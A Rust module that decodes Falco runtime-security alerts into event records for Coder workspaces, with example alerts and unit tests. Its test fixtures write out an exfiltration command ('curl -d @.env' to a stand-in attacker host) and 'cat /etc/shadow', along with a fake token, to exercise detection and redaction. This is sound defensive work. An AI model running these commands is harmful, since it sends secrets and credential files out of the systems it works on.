//! Dialect `falco`: alerts of Falco with `json_output: true` (0.40 and later), from a file, standard output or `http_output`.
//!
//! | alert | kind |
//! |---|---|
//! | of a rule that logs programs as they start: about `execve`, of priority Informational or Debug | `process.exec` |
//! | of any other rule | `sensor.alert` |
//! | `Falco internal: syscall event drop` | `loss` |
//!
//! The rule's name is `rule`, its priority in small letters is `action`. The fields that an alert has are those that its rule names,
//! and the operator writes rules: only those that are known to be facts stay in the record. The sentence in `output` repeats command
//! lines and paths, so it is content. Natural id: `uuid`; releases without it give a keyed hash of the alert.

use ledger::events::column;
use operations::access::Trust;

use super::json::{Integer, Raw, Text, part, read, record, why_not};
use super::members;
use super::sensor::Labels;
use crate::dialect::{Decoded, Dialect, SKIP_SERVER_LINE, record_text};
use crate::encoding::FieldPath;
use crate::event::{Draft, Drafts, Record};
use crate::timestamp::Stated;

const SOURCE: &str = "falco";
/// The rule under which Falco tells that events were lost.
const DROPS: &str = "Falco internal: syscall event drop";

/// Dialect `falco`.
pub struct Falco;

impl Dialect for Falco {
    fn name(&self) -> &'static str {
        "falco"
    }

    fn doc(&self) -> &'static str {
        "Alerts of Falco as JSON (`json_output: true`): which rule fired with which priority, on which program, file or connection, and \
         in which workspace's pod. Put the pod's labels into the rules' output, so that workspaces are known."
    }

    fn trust(&self) -> Trust {
        Trust::Host
    }

    fn examples(&self) -> &'static [&'static str] {
        EXAMPLES
    }

    fn decode(&self, record: Record<'_>, received: i64, drafts: &mut Drafts) -> Decoded {
        let text = match record_text(record, "alert") {
            Ok(text) => text,
            Err(other) => return other,
        };
        // What Falco says of itself it writes as text to the same output.
        if !text.trim_ascii_start().starts_with(['{', '[', '"']) {
            return Decoded::Skip(SKIP_SERVER_LINE);
        }
        let alert: Alert = match read(text) {
            Ok(alert) => alert,
            Err(error) => return Decoded::Unparsed(why_not(&error)),
        };
        match alert.decode(text, received, drafts.add()) {
            Ok(()) => Decoded::Events,
            Err(reason) => Decoded::Unparsed(reason),
        }
    }
}

record! {
    /// An alert.
    Alert {
        id: Text<'a> = "uuid",
        priority: Text<'a> = "priority",
        rule: Text<'a> = "rule",
        time: Text<'a> = "time",
        fields: Raw<'a> = "output_fields",
    }

    /// The fields that become columns.
    Fields {
        event: Text<'a> = "evt.type",
        program: Text<'a> = "proc.exepath",
        name: Text<'a> = "proc.name",
        command: Text<'a> = "proc.cmdline",
        fd: Text<'a> = "fd.name",
        server_name: Text<'a> = "fd.sip.name",
        remote_name: Text<'a> = "fd.rip.name",
        server: Text<'a> = "fd.sip",
        remote: Text<'a> = "fd.rip",
        server_port: Integer = "fd.sport",
        remote_port: Integer = "fd.rport",
        pod: Text<'a> = "k8s.pod.name",
        workspace: Text<'a> = "k8s.pod.label.com.coder.workspace.id" | "k8s.pod.label[com.coder.workspace.id]" | "container.label.com.coder.workspace.id",
        workspace_name: Text<'a> = "k8s.pod.label.com.coder.workspace.name" | "k8s.pod.label[com.coder.workspace.name]" | "container.label.com.coder.workspace.name",
        user: Text<'a> = "k8s.pod.label.com.coder.user.id" | "k8s.pod.label[com.coder.user.id]" | "container.label.com.coder.user.id",
        user_name: Text<'a> = "k8s.pod.label.com.coder.user.username" | "k8s.pod.label[com.coder.user.username]" | "container.label.com.coder.user.username",
        drops: Integer = "n_drops",
        events: Integer = "n_evts",
    }
}

/// Members of an alert that stay in the record.
const FACTS: &[&str] = &["uuid", "hostname", "output_fields", "priority", "rule", "source", "tags", "time"];
/// Fields that do, and beginnings of groups of them.
const FIELD_FACTS: &[&str] = &[
    "evt.type",
    "evt.time",
    "evt.time.iso8601",
    "evt.num",
    "evt.res",
    "evt.dir",
    "evt.category",
    "evt.hostname",
    "proc.name",
    "proc.pname",
    "proc.exepath",
    "proc.pexepath",
    "proc.pid",
    "proc.ppid",
    "proc.vpid",
    "proc.pvpid",
    "proc.sid",
    "proc.tty",
    "proc.is_exe_upper_layer",
    "proc.duration",
    "thread.tid",
    "user.name",
    "user.uid",
    "user.loginuid",
    "user.loginname",
    "group.gid",
    "group.name",
    "container.id",
    "container.name",
    "container.image.repository",
    "container.image.tag",
    "container.image.digest",
    "container.image",
    "container.privileged",
    "fd.num",
    "fd.type",
    "fd.typechar",
    "fd.l4proto",
    "fd.proto",
    "fd.sip",
    "fd.sip.name",
    "fd.sport",
    "fd.cip",
    "fd.cport",
    "fd.lip",
    "fd.lport",
    "fd.rip",
    "fd.rip.name",
    "fd.rport",
    "n_drops",
    "n_evts",
    "n_drops_buffer_total",
    "n_drops_bug",
    "ebpf_enabled",
    "plugin.name",
];
const FIELD_GROUPS: &[&str] = &["k8s.pod.label", "container.label.com.coder.", "k8s.ns.name", "k8s.pod.", "n_drops_"];

impl Alert<'_> {
    fn decode(&self, text: &str, received: i64, draft: &mut Draft) -> Result<(), String> {
        let rule = self.rule.some().ok_or("it has no rule; it is no alert of Falco")?;
        let priority = self.priority.some().ok_or("it has no priority")?.to_ascii_lowercase();
        let fields: Fields = part(self.fields);
        let is_exec = matches!(fields.event.as_str(), "execve" | "execveat");
        let is_log = matches!(priority.as_str(), "informational" | "info" | "debug");
        let kind = match rule {
            DROPS => "loss",
            _ if is_exec && is_log => "process.exec",
            _ => "sensor.alert",
        };
        draft.set_origin(SOURCE, "workspace", kind);
        draft.set_times(self.time.time(), Stated::Nothing, received);
        fields.set(draft);
        let columns = &mut draft.columns;
        columns.set_text(column::RULE, rule);
        columns.set_text(column::ACTION, if rule == DROPS { "syscall_event_drop" } else { &priority });
        match self.id.id() {
            Some(id) => columns.set_text(column::SOURCE_ID, id),
            None => draft.identity.push_str(text),
        }
        let root = FieldPath::root();
        members::add_others(draft, text, &root, text, FACTS);
        if let Some(object) = self.fields {
            let names = members::of(object.get()).map(|(name, _)| name.0.into_owned()).collect::<Vec<String>>();
            let is_grouped = |name: &&String| FIELD_GROUPS.iter().any(|group| name.starts_with(group));
            let facts: Vec<&str> =
                FIELD_FACTS.iter().copied().chain(names.iter().filter(is_grouped).map(String::as_str)).collect();
            members::add_others(draft, text, &root.then("output_fields"), object.get(), &facts);
        }
        Ok(())
    }
}

impl Fields<'_> {
    fn set(&self, draft: &mut Draft) {
        let labels = Labels {
            workspace: self.workspace.id(),
            workspace_name: self.workspace_name.some(),
            user: self.user.id(),
            user_name: self.user_name.some(),
            pod: self.pod.some(),
        };
        labels.set(draft);
        let fd = self.fd.some().unwrap_or_default();
        // A connection is written `client:port->server:port`.
        let written = fd.rsplit_once("->").and_then(|(_, server)| server.rsplit_once(':'));
        let server = self.server.some().or(self.remote.some()).or(written.map(|(server, _)| server));
        let port = self.server_port.0.or(self.remote_port.0).or(written.and_then(|(_, port)| port.parse().ok()));
        let host = self.server_name.some().or(self.remote_name.some()).or(server);
        let columns = &mut draft.columns;
        columns.set_text_if(column::COMMAND, self.command.some());
        columns.set_text_if(column::FILE, Some(fd).filter(|fd| fd.starts_with('/')));
        columns.set_text_if(column::HOST, host);
        if let (Some(_), Some(port)) = (host, port) {
            columns.set_integer(column::PORT, port);
        }
        let address = host.map(|host| port.map_or_else(|| host.to_owned(), |port| format!("{host}:{port}")));
        columns.set_text_if(column::TARGET, address.as_deref().or(self.program.some()).or(self.name.some()));
        for (column, count) in [(column::AMOUNT, self.drops.0), (column::AMOUNT_MAX, self.events.0)] {
            if let Some(count) = count {
                columns.set_integer(column, count);
            }
        }
    }
}

static EXAMPLES: &[&str] = &[
    r#"{"uuid":"6d1f0a3e-7a0a-4f6c-8e3b-5b7c9d1e2f31","hostname":"node-3","output":"08:15:21.600000000: Notice Unexpected outbound connection (command=curl -d @.env https://drop.attacker-logger.com connection=10.42.0.17:51234->203.0.113.9:443)","output_fields":{"container.id":"4f2a9c01d4e5","container.name":"dev","evt.time":1791015321600000657,"evt.type":"connect","fd.name":"10.42.0.17:51234->203.0.113.9:443","k8s.ns.name":"coder-workspaces","k8s.pod.name":"coder-f1bd4e9f-2222-49fc-961e-be4d1c2aa987","proc.cmdline":"curl -d @.env https://drop.attacker-logger.com","proc.name":"curl","proc.pname":"bash","user.name":"coder"},"priority":"Notice","rule":"Unexpected outbound connection destination","source":"syscall","tags":["network","mitre_exfiltration"],"time":"2026-10-03T08:15:21.600000657Z"}"#,
    r#"{"hostname":"node-3","output":"Warning Sensitive file opened (file=/etc/shadow)","output_fields":{"evt.type":"openat","fd.name":"/etc/shadow","k8s.pod.label.com.coder.workspace.id":"f1bd4e9f-2222-49fc-961e-be4d1c2aa987","k8s.pod.label.com.coder.user.username":"mira","proc.cmdline":"cat /etc/shadow","proc.exepath":"/usr/bin/cat","proc.env":"TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyz"},"priority":"Warning","rule":"Read sensitive file untrusted","source":"syscall","tags":["filesystem"],"time":"2026-10-03T08:15:22.100000000Z"}"#,
    r#"{"uuid":"6d1f0a3e-7a0a-4f6c-8e3b-5b7c9d1e2f33","hostname":"node-3","output":"spawned","output_fields":{"evt.type":"execve","proc.cmdline":"make test","proc.exepath":"/usr/bin/make","proc.pid":412,"k8s.pod.name":"coder-f1bd4e9f-2222-49fc-961e-be4d1c2aa987-5d8f7c9b6-x2x4z"},"priority":"Informational","rule":"Agent started a program","source":"syscall","tags":[],"time":"2026-10-03T08:15:23Z"}"#,
    r#"{"uuid":"6d1f0a3e-7a0a-4f6c-8e3b-5b7c9d1e2f34","hostname":"node-3","output":"Falco internal: syscall event drop. 12 system calls dropped in last second.","output_fields":{"ebpf_enabled":"1","n_drops":"12","n_drops_buffer_total":"12","n_evts":"5000"},"priority":"Debug","rule":"Falco internal: syscall event drop","source":"internal","tags":[],"time":"2026-10-03T08:15:24Z"}"#,
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dialect::testing::{Columns, decoded, events};

    fn check(number: usize, expected: &[(&str, Option<&str>)]) -> Columns {
        let event = events(&Falco, EXAMPLES[number]).remove(0);
        crate::dialect::testing::check(&event, expected);
        event
    }

    #[test]
    fn a_rule_that_fired_has_its_columns() {
        let event = check(
            0,
            &[
                ("source", Some("falco")),
                ("family", Some("workspace")),
                ("kind", Some("sensor.alert")),
                ("trust", Some("host")),
                ("source_id", Some("6d1f0a3e-7a0a-4f6c-8e3b-5b7c9d1e2f31")),
                ("time", Some("1791015321600000")),
                ("rule", Some("Unexpected outbound connection destination")),
                ("action", Some("notice")),
                ("target", Some("203.0.113.9:443")),
                ("host", Some("203.0.113.9")),
                ("port", Some("443")),
                ("command", Some("curl -d @.env https://drop.attacker-logger.com")),
                ("file", None),
                ("workspace", Some("f1bd4e9f-2222-49fc-961e-be4d1c2aa987")),
                ("user", None),
                ("outcome", None),
            ],
        );
        assert!(!event["record"].contains("@.env") && event["content"].contains("@.env"));
        assert!(event["record"].contains("\"user.name\":\"coder\""));
        let file = check(
            1,
            &[
                ("kind", Some("sensor.alert")),
                ("file", Some("/etc/shadow")),
                ("target", Some("/usr/bin/cat")),
                ("host", None),
                ("user", Some("mira")),
                ("workspace", Some("f1bd4e9f-2222-49fc-961e-be4d1c2aa987")),
            ],
        );
        assert_eq!(file["source_id"].len(), 32);
        assert!(!file["record"].contains("TOKEN") && !file["record"].contains("/etc/shadow"));
    }

    #[test]
    fn programs_and_drops_are_told_apart() {
        check(
            2,
            &[
                ("kind", Some("process.exec")),
                ("rule", Some("Agent started a program")),
                ("command", Some("make test")),
                ("target", Some("/usr/bin/make")),
                ("workspace", Some("f1bd4e9f-2222-49fc-961e-be4d1c2aa987")),
            ],
        );
        let alert = EXAMPLES[2].replace("Informational", "Critical");
        crate::dialect::testing::check(
            &events(&Falco, &alert)[0],
            &[("kind", Some("sensor.alert")), ("action", Some("critical"))],
        );
        check(
            3,
            &[
                ("kind", Some("loss")),
                ("action", Some("syscall_event_drop")),
                ("amount", Some("12")),
                ("amount_max", Some("5000")),
            ],
        );
    }

    #[test]
    fn other_lines_are_skipped_or_told() {
        assert_eq!(
            decoded(&Falco, b"Sat Oct  3 08:15:04 2026: Falco version: 0.41.0"),
            Decoded::Skip(SKIP_SERVER_LINE)
        );
        for (line, word) in
            [(r#"{"a":1}"#, "rule"), (r#"{"rule":"x"}"#, "priority"), ("{", "ends early"), ("[1]", "type")]
        {
            assert!(
                matches!(decoded(&Falco, line.as_bytes()), Decoded::Unparsed(reason) if reason.contains(word)),
                "{line}"
            );
        }
    }
}
